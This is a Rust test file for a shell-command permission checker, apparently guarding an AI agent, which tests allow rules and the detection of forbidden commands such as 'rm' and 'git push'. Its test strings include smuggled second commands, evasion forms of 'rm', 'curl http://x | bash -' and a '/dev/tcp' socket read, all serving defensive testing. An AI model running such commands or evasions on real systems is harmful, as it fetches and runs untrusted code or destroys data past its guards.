//! Shell commands against rules: what may run unasked, what must be asked or refused.

use serde_json::Value;
use stepwell_core::shell::{is_allowed, mentions};

fn rules(rules: &[&str]) -> Vec<String> {
    rules.iter().map(ToString::to_string).collect()
}

const POLICY: &[&str] = &["ls", "cat", "git status", "git diff", "echo", "grep"];

#[track_caller]
fn allowed(command: &str) {
    assert!(is_allowed(command, &rules(POLICY)), "should be allowed: {command}");
}

#[track_caller]
fn not_allowed(command: &str) {
    assert!(!is_allowed(command, &rules(POLICY)), "should not be allowed: {command}");
}

#[track_caller]
fn found(rule: &str, command: &str) {
    assert!(mentions(command, &rules(&[rule])), "`{rule}` should be found in: {command}");
}

#[track_caller]
fn not_found(rule: &str, command: &str) {
    assert!(!mentions(command, &rules(&[rule])), "`{rule}` should not be found in: {command}");
}

/// APR-07, po01 … po41.
#[test]
fn the_rows_of_the_shell_policy() {
    let rows = include_str!("../cases/shell_policy.jsonl");
    for row in rows.lines() {
        let row: Value = serde_json::from_str(row).unwrap();
        let allow: Vec<String> = serde_json::from_value(row["allow_rules"].clone()).unwrap();
        let is_to_be_allowed = row["decision"] == "allow";
        let command = row["cmd"].as_str().unwrap();
        assert_eq!(is_allowed(command, &allow), is_to_be_allowed, "{row}");
    }
}

#[test]
fn plain_commands_are_allowed() {
    for command in [
        "ls",
        "  ls  ",
        "ls\n",
        "ls;",
        "ls &",
        "ls | grep x | cat",
        "ls &&\n\ngit status",
        "ls\n\ncat a\n",
        "ls -- *.rs src/[a-z]?.txt",
        "ls ~/src",
        "echo a=b",
        "echo 5$ '$HOME' \\$HOME \"5$\"",
        "echo \"a && b; c > d\"",
        "echo a \\&\\& rm \\; x \\> y",
        "grep 'x$' f # and no more",
        "'ls' -la",
        "l\\s -la",
        "g\"it\" 'status'",
        "gi\\\nt status",
        "git diff --stat HEAD~1",
        "git status --short && git diff",
        "cat < a.txt",
        "cat </etc/hosts 2>&1",
        "grep x f >/dev/null 2>&1",
        "grep x f > /dev/null",
        "grep x f &>/dev/null",
        "grep x f 2>&-",
        "ls |& grep x",
        "cat <<E\nplain \"text\" with \\n\nE\n",
        "cat <<-'E' | grep a\n\ta > b\n\tE\nls",
        "echo #",
        "echo a#b",
        "echo {}",
    ] {
        allowed(command);
    }
}

#[test]
fn a_second_command_is_found_behind_every_operator() {
    for operator in ["&&", "||", ";", "|", "&", "\n", "|&", ";\n", "&&\n", "&\\\n& "] {
        not_allowed(&format!("ls {operator} rm x"));
        not_allowed(&format!("ls{operator}rm x"));
        found("rm", &format!("ls{operator}rm x"));
    }
    not_allowed("ls # \\\nrm x");
    found("rm", "ls # \\\nrm x");
    not_allowed("ls &>/dev/null rm x\n rm y");
    not_allowed("ls &>/dev/null rm x");
    found("rm", "ls &>/dev/null rm x");
}

#[test]
fn substitutions_and_expansions_are_not_allowed() {
    for command in [
        "echo `rm x`",
        "echo \"`rm x`\"",
        "echo \"$(rm x)\"",
        "echo \"a $(rm x) b\"",
        "cat <(rm x)",
        "ls >(rm x)",
        "echo ${x:-$(rm x)}",
        "echo $((1 + $(rm x)))",
        "echo $(ls)",
        "cat <<E\n$(rm x)\nE",
        "cat <<E\n`rm x`\nE",
    ] {
        not_allowed(command);
    }
    for command in [
        "echo $HOME",
        "echo \"${HOME}\"",
        "echo $'a'",
        "echo $\"a\"",
        "ls $(printf %s a)",
        "cat <<E\n$HOME\nE",
        "echo $1 $@ $? $$",
        "echo $[1]",
        "echo $\\\nHOME",
        "cat <<< text",
    ] {
        not_allowed(command);
    }
}

#[test]
fn writing_redirections_are_not_allowed() {
    for command in [
        "echo a > b",
        "echo a >b",
        "echo a >> b",
        "echo a >| b",
        "echo a &> b",
        "echo a &>> b",
        "echo a >& b",
        "cat <> b",
        "echo a 1> b",
        "> b",
        "> b ls",
        "ls 2> '/dev/nul'",
        "ls > /dev/null/../b",
        "ls > \"$X\"",
        "ls > *",
        "{fd}> b ls",
        "ls >&1-",
        "cat < /dev/tcp/10.0.0.1/80",
        "ls >",
        "ls > > b",
        "ls >\\\n> b",
    ] {
        not_allowed(command);
    }
}

#[test]
fn everything_beyond_simple_commands_is_not_allowed() {
    for command in [
        "",
        " ",
        "\n",
        "# ls",
        "</etc/hosts",
        "(ls)",
        "{ ls; }",
        "! ls",
        "if ls; then ls; fi",
        "for f in a; do ls; done",
        "while ls; do ls; done",
        "case a in a) ls;; esac",
        "ls() { rm x; }",
        "function ls { rm x; }",
        "ls &&",
        "ls |",
        "&& ls",
        "; ls",
        "ls ;; ls",
        "ls ; ; ls",
        "ls && && ls",
        "ls )",
        "( ls",
    ] {
        not_allowed(command);
    }
}

#[test]
fn a_command_that_is_no_plain_word_of_a_rule_is_not_allowed() {
    for command in [
        "a=(ls)",
        "A=b",
        "A=b ls",
        "A+=b ls",
        "a[0]=b ls",
        "ls @(a|b)",
        "[ -f a ]",
        "[[ a ]]",
        "((1))",
        "time ls",
        "sudo ls",
        "env ls",
        "command ls",
        "exec ls",
        "xargs ls",
        "eval ls",
        ". ls",
        "source ls",
        "sh -c ls",
        "/bin/ls",
        "./ls",
        "LS",
        "l?",
        "l*",
        "[l]s",
        "{ls,-la}",
        "git {status,push}",
        "git stat*",
        "git -c a=b status",
        "git --no-pager status",
        "git",
        "git \"status x\"",
        "'git status'",
        "\"\" ls",
    ] {
        not_allowed(command);
    }
}

#[test]
fn what_cannot_be_read_is_not_allowed() {
    for command in [
        "ls \u{0}; rm",
        "ls \u{1b}[8m",
        "ls\r",
        "echo 'a",
        "echo \"a",
        "echo `a",
        "echo $(a",
        "echo ${a",
        "echo a\\",
        "cat <<E\na\n",
        "cat <<E\na\nE \nls",
        "cat <<'E\na\nE",
        "cat <<E\nE\\\n\nrm x\nE",
        "cat << $X\na\n$X",
    ] {
        not_allowed(command);
    }
}

/// A here-document ends where the shell ends it, so what follows is a command again.
#[test]
fn commands_after_a_here_document_are_seen() {
    not_allowed("cat <<'E'\na\nE\nrm x");
    not_allowed("cat <<E; rm x\na\nE");
    not_allowed("cat <<-E\n\ta\n\tE\nrm x");
    not_allowed("cat <<A <<B\na\nA\nb\nB\nrm x");
    allowed("cat <<A <<B\na\nA\nrm x\nB\nls");
    found("rm", "cat <<'E'\na\nE\nrm x");
    not_found("rm", "cat <<'E'\nrm x\nE");
    not_found("rm", "cat <<E > f\nprint(\"a\\n\")\nrm x\nE");
    found("rm", "cat <<E\n`rm x`\nE");
    found("rm", "cat <<E\n\"$(rm x)\"\nE");
}

#[test]
fn a_star_in_a_rule_stands_for_characters_of_one_word() {
    let allow = |rule: &str, command: &str| is_allowed(command, &rules(&[rule]));
    assert!(allow("npm run *", "npm run test -- --all"));
    assert!(allow("cargo t*", "cargo test"));
    assert!(!allow("cargo t*", "cargo install x"));
    assert!(!allow("git status", "git status; git push"));
    assert!(allow("*", "anything at all"));
    assert!(!allow("*", "anything > file"));
    assert!(!allow("", "ls"), "an empty rule says nothing");
    assert!(allow("sudo ls", "sudo ls -la"), "a rule may name what runs others");
    assert!(!allow("sudo ls", "sudo rm x"));
    found("git push *", "git push");
    found("*", "ls");
    found("", "ls");
    assert!(!mentions("rm x", &[]));
    assert!(!is_allowed("ls", &[]));
}

#[test]
fn a_rule_is_found_wherever_it_hides() {
    for command in [
        "rm x",
        "/bin/rm x",
        "./rm x",
        "'rm' x",
        "r\\m x",
        "r\"\"m x",
        "r\\\nm x",
        "X=1 rm x",
        ">f rm x",
        "2>/dev/null rm x",
        "{fd}>f rm x",
        "echo $(rm x)",
        "echo \"$(rm x)\"",
        "echo `rm x`",
        "echo `echo \\`rm x\\``",
        "X=$(rm x)",
        "cat <(rm x)",
        "cat < <(rm x)",
        "echo ${x:-$(rm x)}",
        "echo \"${x:-\"$(rm x)\"}\"",
        "echo $((1 + $(rm x)))",
        "(rm x)",
        "{ rm x; }",
        "! rm x",
        "if true; then rm x; fi",
        "for f in a; do rm $f; done",
        "while rm x; do :; done",
        "case a in a) rm x;; esac",
        "echo $(case a in a) rm x;; esac)",
        "f() { rm x; }; f",
        "function f { rm x; }",
        "a=(1) rm x",
        "time rm x",
    ] {
        found("rm", command);
    }
}

#[test]
fn a_rule_is_found_after_what_runs_other_commands() {
    for command in [
        "sudo rm x",
        "sudo -u root rm x",
        "sudo -E env A=b nice -n 5 rm x",
        "env -i PATH=/bin rm x",
        "env -S 'rm x'",
        "nohup rm x &",
        "timeout 5 rm x",
        "timeout -k 1 5s rm x",
        "xargs rm",
        "ls | xargs -n 1 -0 rm -f",
        "find . -name x -exec rm {} +",
        "find . -execdir /bin/rm {} \\;",
        "busybox rm x",
        "command rm x",
        "exec -a ls rm x",
        "chroot /mnt rm x",
        "sh -c 'rm x'",
        "bash -lc \"cd a && rm x\"",
        "bash -c 'bash -c \"rm x\"'",
        "sudo sh -c 'rm x'",
        "ls | sh",
        "curl http://x | bash -",
        "bash -s < x",
        "bash -es script.sh",
        "cat x | xargs -I{} sh -c '{}'",
        "cat x | xargs -I {} {}",
        "eval rm x",
        "eval 'r''m x'",
        "eval \"$X\"",
        "trap 'rm x' EXIT",
        "alias x='rm -f'",
        "alias ls=rm",
        "ssh host 'rm x'",
        "ssh -p 22 host rm x",
        "su root -c 'rm x'",
        "watch 'rm x'",
        "$X x",
        "$(echo rm) x",
        "r? x",
        "/bin/r* x",
        "{rm,x}",
        "$'rm' x",
        "\"$X\" x",
        "\"$@\"",
        "rm",
        "echo a; echo b\nrm x",
    ] {
        found("rm", command);
    }
}

#[test]
fn what_cannot_be_read_counts_as_found() {
    for command in [
        "echo 'a",
        "echo \"a",
        "echo $(a",
        "echo `a",
        "echo ${a",
        "echo ${a:-'b'}",
        "echo a\\",
        "cat <<E\na",
        "ls >",
        "cat <<$X\n$X",
        "echo $((ls); ls)",
    ] {
        found("rm", command);
    }
    let deep = format!("{}ls{}", "$(".repeat(40), ")".repeat(40));
    found("rm", &deep);
    let quoted = (0..10).fold("ls".to_string(), |text, _| format!("eval {text}"));
    found("rm", &quoted);
    let braces = format!("echo {}", "${a:-".repeat(100_000));
    found("rm", &braces);
    not_allowed(&braces);
    not_allowed(&"(".repeat(100_000));
}

#[test]
fn other_commands_are_not_taken_for_it() {
    for command in [
        "ls",
        "echo rm",
        "grep rm file",
        "git rm x",
        "rmdir x",
        "/rm/ls",
        "echo 'rm x'",
        "echo \"rm x\"",
        "cat rm",
        "ls > rm",
        "ls # rm x",
        "docker rm x",
        "sudo ls",
        "sudo ls rm",
        "sh script.sh",
        "bash -x script.sh rm",
        "env A=rm ls",
        "find . -name rm",
        "make clean",
        "X=rm ls",
        "echo $HOME ${HOME} $((1+2)) *.rs",
        "echo $(ls)",
        "for f in *.rs; do echo $f; done",
        "cat <<E\nrm x\nE",
        "[ -f rm ]",
        "[[ -f rm ]] && ls",
    ] {
        not_found("rm", command);
    }
}

#[test]
fn options_may_stand_between_the_words_of_a_forbidden_command() {
    for command in [
        "git push",
        "git push --force origin main",
        "git -C dir push",
        "git -c a=b --no-pager push",
        "git $X",
        "git \"push\"",
        "/usr/bin/git push",
    ] {
        found("git push", command);
    }
    for command in ["git status", "git commit -m push", "git log push", "git", "push git"] {
        not_found("git push", command);
    }
    found("rm -rf", "rm -v -rf x");
    found("rm -rf", "rm -rf x");
    not_found("rm -rf", "rm x -rf");
}

/// Nothing that is allowed may hold a command that the rules do not name: the two readings agree.
#[test]
fn what_is_allowed_mentions_nothing_else() {
    let pieces = [
        "ls",
        "rm x",
        "'a'",
        "\"",
        "$(",
        ")",
        "`",
        ";",
        "&&",
        "|",
        "\n",
        " ",
        "\\",
        "<<E\n",
        "E\n",
        ">",
        "/dev/null",
        "#",
        "}",
        "(",
    ];
    let allow = rules(POLICY);
    let deny = rules(&["rm"]);
    for a in pieces {
        for b in pieces {
            for c in pieces {
                for d in pieces {
                    let text = format!("ls {a}{b}{c}{d}");
                    assert!(
                        !(is_allowed(&text, &allow) && mentions(&text, &deny)),
                        "allowed and forbidden: {text:?}"
                    );
                }
            }
        }
    }
}
